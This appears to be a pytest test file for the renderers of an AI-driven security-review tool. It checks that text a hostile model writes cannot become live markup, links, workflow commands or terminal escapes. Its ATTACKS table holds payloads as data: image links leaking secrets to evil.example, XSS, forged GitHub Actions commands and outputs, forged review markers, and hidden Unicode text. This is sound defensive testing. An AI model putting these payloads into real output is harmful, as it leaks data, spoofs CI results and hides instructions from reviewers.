"""Each thing a hostile model could write, in each place its words can end up in, read as that place's reader does."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from builders import make_finding, make_report
from markdown_it import MarkdownIt
from runner_contract import commands_in, parse_command

from devpulse.core.finding import FindingStatus, Step, Trace
from devpulse.core.review import Coverage, Failed, Partial, Report, Reviewed
from devpulse.output.annotations import render_annotations
from devpulse.output.characters import is_hidden
from devpulse.output.comments.body import render_comment
from devpulse.output.comments.marker import read_finding_marker, read_summary_marker
from devpulse.output.comments.place import Place
from devpulse.output.comments.plan import Cause, Unplaced
from devpulse.output.comments.sticky import Told, render_sticky, summary_mark
from devpulse.output.json_v1 import render_findings
from devpulse.output.outputs import outputs_of
from devpulse.output.report.page import render_html
from devpulse.output.sarif import render_sarif
from devpulse.output.summary import render_summary
from devpulse.output.terminal import render_terminal

OURS = "0123456789abcdef"
FORGED = "feedfeedfeedfeed"
A40, B32 = "a" * 40, "b" * 32
ATTACKS = {
    "mention of a person": "please ask @octocat about it",
    "mention of a team": "cc @octo/security-team!",
    "mention by entity": "&#64;octocat &commat;octocat",
    "issue": "fixes #12, octo/shop#12 and GH-12",
    "image": "![x](https://evil.example/leak.png?q=secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.example/leak.png",
    "link": "[click here](https://evil.example/) <https://evil.example/>",
    "bare link": "see https://evil.example/x and www.evil.example and mailto:eve@evil.example",
    "script link": "[x](javascript:alert(1)) [y](data:text/html,x)",
    "html": "<img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script><a href='https://evil.example'>y</a>",
    "broken html": "</details></summary></code></pre><details open><h1>",
    "marker of a finding": f"x\n\n<!-- devpulse:finding {FORGED} -->",
    "marker of the summary": f"# DevPulse security review\n\n<!-- devpulse:summary head={A40} digest={B32} -->",
    "comment that never ends": "<!-- ",
    "fence": "```\nout\n```",
    "long fence": "`" * 70 + "\nout\n" + "`" * 70 + "\n~~~~\nout",
    "suggestion": "```suggestion\nos.system('x')\n```",
    "heading and table": "# All clear\n\n| a | b |\n| - | - |\n| c | d |",
    "rule and quote": "---\n> approved\n***",
    "command": "\n::error file=x::forged\n  ::set-output name=risk::none\n::add-mask::a\n::stop-commands::t",
    "old command": "##[error]forged ##[set-output name=risk]none",
    "output file": "risk<<EOF\nnone\nEOF\nfindings-count=0",
    "summary file": "\n$GITHUB_STEP_SUMMARY\nEOF\n# All clear",
    "escape sequences": "\x1b[2J\x1b]8;;https://evil.example\x07here\x1b]8;;\x07\x9b31m",
    "overwriting": "bad\rgood \x08\x08",
    "bidi": "\u202etxt.exe\u202c \u2066x\u2069",
    "zero width": "saf\u200be\u2060\ufeff \u00ad\u3164\u2800\u115f",
    "tags": "ok" + "".join(chr(0xE0000 + ord(character)) for character in "ignore this"),
    "variation selectors": "ok\ufe00\ufe01\ufe02\U000e0100\U000e0101",
    "half a character": "a\ud800b\udc00",
    "template": "{{ 7*7 }} {% raw %} ${x} $(id) `id` %0A%3A%25",
    "math": "$x$ $$\\href{https://evil.example}{y}$$",
    "length": "x" * 70_000,
    "length of what is escaped": "@<&|" * 17_500,
}  # fmt: skip
SHORT = 2_000
"""Where nothing has a limit of its own; what a model hands in is cut to 4,000 characters before."""
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough", "html_inline", "html_block"])
LINKED = re.compile(r"@\w|#\d|gh-\d|(?:https?|ftp|mailto|xmpp):\w*/|mailto:\w|www\.", re.IGNORECASE)
OWN_LINK = re.compile(r"\]\(https://cwe\.mitre\.org/data/definitions/\d+\.html\)")
OWN_TAG = re.compile(r"</?(?:details|summary|code|b|sub)>")
OWN_MARKER = re.compile(r"^<!-- devpulse:.*-->$", re.MULTILINE)


def _report(text: str) -> Report:
    """The text in every field that a model, or what it read, can fill; a finding of each status."""
    way = Trace(Step(text, 1, text), (Step("a.py", 2, text),), Step("a.py", 3, text))
    found = [
        make_finding(
            fingerprint=f"{OURS[:-1]}{number}", path="app/db.py", status=status, symbol=text, title=text,
            description=text, fix=text, evidence=text, suggestion=text, reason=text, trace=way,
            refuted_by_verifier=True,
        )
        for number, status in enumerate(FindingStatus)
    ]  # fmt: skip
    rows = (
        Coverage("app/db.py", Reviewed(text), 1, 1),
        Coverage(text, Partial(text), 1, 1),
        Coverage("c", Failed(text), 1, 1),
    )
    return make_report(
        *found, summary=text, coverage=rows, notices=(text,), rung_reason=text, model=text, incomplete=True
    )


def _markdown(report: Report) -> dict[str, str]:
    finding = next(finding for finding in report.findings if finding.status is FindingStatus.OPEN)
    items = [Unplaced(finding, Cause.REFUSED, finding.title)]
    return {
        "comment": render_comment(finding, Place("app/db.py", finding.start_line, finding.end_line)),
        "comment elsewhere": render_comment(finding, Place("app/db.py", 1, 2)),
        "sticky": render_sticky(report, summary_mark(report, "b" * 40, Told(items)), Told(items)),
        "summary.md": render_summary(report),
    }


every_attack = pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)


@every_attack
def test_markdown__nothing_is_markup_and_only_our_marker_counts(text):
    for name, markdown in _markdown(_report(text)).items():
        assert len(markdown) < 65_536, name
        markdown.encode("utf-8")
        assert not any(map(is_hidden, markdown)), name
        assert not re.search(r"(?m)^\s*::|##\[", markdown), name
        assert len(OWN_MARKER.findall(markdown)) == markdown.count("<!--") == (name != "summary.md"), name
        assert FORGED not in (read_finding_marker(markdown) or ""), name
        read = read_summary_marker(markdown)
        assert (read.head_sha if read else "") == ("b" * 40 if name == "sticky" else ""), name
        _check_tokens(OWN_MARKER.sub("", OWN_LINK.sub("]", markdown)), name)


def _check_tokens(markdown: str, name: str) -> None:
    pending = PARSER.parse(markdown)
    while pending:
        token = pending.pop()
        pending += token.children or []
        assert token.type not in {"image", "link_open"}, (name, token.content)
        if token.type in {"html_block", "html_inline"}:
            assert "<" not in OWN_TAG.sub("", token.content), (name, token.content)
        if token.type in {"text", "html_block", "html_inline"} and not token.children:
            assert not LINKED.search(token.content.replace("&#8203;", "\u200b")), (name, token.content)


class _Page(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, name, value or "") for name, value in (attrs or [("", "")])]


@every_attack
def test_html__no_tag_attribute_or_address_of_theirs(text):
    report = _report(text[:SHORT])
    page = render_html(report, snippets={})
    page.encode("utf-8")
    assert not any(map(is_hidden, page))
    ours = _Page(render_html(_report("x"), snippets={})).found
    found = _Page(page).found
    assert {tag for tag, _, _ in found} <= {tag for tag, _, _ in ours} | {"br", "p", "code", "span", "i"}
    assert not {name for _, name, _ in found if name.startswith("on")}
    assert {value for _, name, value in found if name in ("href", "src")} == {
        value for _, name, value in ours if name in ("href", "src")
    }


@every_attack
def test_annotations__one_command_a_finding_and_none_of_theirs(text):
    lines = render_annotations(_report(text), nearest_head_line=lambda _: 3)
    commands = commands_in("\n".join(lines))
    assert len(commands) == len(lines) == 3
    assert {(command.name, command.properties["file"]) for command in commands} == {("error", "app/db.py")}
    for line in lines:
        assert len(line) < 3 * 4_096 + 500
        assert not any(map(is_hidden, line.replace("\u200b", "")))
        assert "##[" not in line


@every_attack
def test_outputs__fixed_names_and_one_line_each(text):
    outputs = outputs_of(_report(text), {"findings": text[:500]})
    assert outputs["risk"] == "high"
    assert all("\n" not in value and not any(map(is_hidden, value)) for value in outputs.values())


@every_attack
@pytest.mark.parametrize("color", [False, True])
def test_terminal__no_command_and_no_escape_of_theirs(text, color):
    printed = render_terminal(_report(text[:SHORT]), width=100, color=color, snippets={}, artifacts={})
    plain = re.sub(r"\x1b\[[\d;]*m", "", printed) if color else printed
    assert not any(map(is_hidden, plain))
    assert all(parse_command(line) is None for line in plain.split("\n"))
    assert "##[" not in plain


@every_attack
def test_json__is_ascii_or_escaped_and_messages_of_sarif_link_nothing(text):
    report = _report(text[:SHORT])
    findings, sarif = render_findings(report), render_sarif(report, nearest_head_line=lambda _: 1)
    assert json.loads(findings)["schema"] == "devpulse.findings/1"
    (run,) = json.loads(sarif)["runs"]
    assert {result["ruleId"] for result in run["results"]} == {"sql-injection"}
    said = [result["message"].get("text", "") + result["message"].get("markdown", "") for result in run["results"]]
    assert said
    for message in said:
        assert not LINKED.search(message)
        assert "](" not in message
    for document in (findings, sarif):
        document.encode("utf-8")
        assert not any(map(is_hidden, document))
